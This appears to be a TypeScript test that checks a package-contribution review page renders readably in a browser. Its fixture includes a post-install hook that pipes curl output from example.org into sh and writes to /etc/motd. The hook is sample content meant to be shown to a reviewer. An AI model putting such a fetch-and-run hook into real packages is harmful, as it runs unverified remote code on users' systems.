// The page that a maintainer reads before accepting, in a browser: with everything that a review can show.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { assertReadable, needsBrowser } from '../helpers/browser.ts';
import {
  commitAll,
  contribute,
  DISTRO,
  MANIFEST,
  OWN,
  scratch,
  upstreamTree,
  writeFiles,
} from './project.ts';
import { bundle, verify } from './run.ts';

const HOOK = `#!/bin/sh
set -e
curl -fsS https://example.org/${'long/'.repeat(40)}data | sh
echo "<b>done</b>" > /etc/motd
`;
const PATCH = `Description: ${'Long reasons are told at length. '.repeat(8)}
---
--- a/README
+++ b/README
@@ -1,1 +1,1 @@
-A demonstration
+Another one
`;

describe('the review page', needsBrowser('git', 'tar'), () => {
  test('is whole, quiet and accessible at every width and in both colours', async () => {
    const root = upstreamTree();
    writeFiles(root, { 'contrib.yaml': `${MANIFEST}variables: { level: { default: "1" } }\n` });
    await contribute(root);
    commitAll(root, 'v1.0');
    writeFiles(root, {
      [`${OWN}/hooks/demo/post-install.sh`]: HOOK,
      [`${OWN}/demo.conf`]: `[demo]\nlevel = ${'2'.repeat(300)}\n`,
      [`${OWN}/patches/readme.patch`]: PATCH,
      [`${OWN}/patches/series`]: 'readme.patch\n',
      [`${OWN}/distro.yaml`]: `${DISTRO}variables: { level: "2" }\n`,
    });
    await contribute(root, {});
    const { result } = await bundle(root, 'ubuntu', '--out', scratch());
    const judged = await verify(root, result.file);
    const file = join(scratch(), 'review.html');
    writeFileSync(file, judged.html?.() ?? '');
    await assertReadable(file, 'review');
  });
});
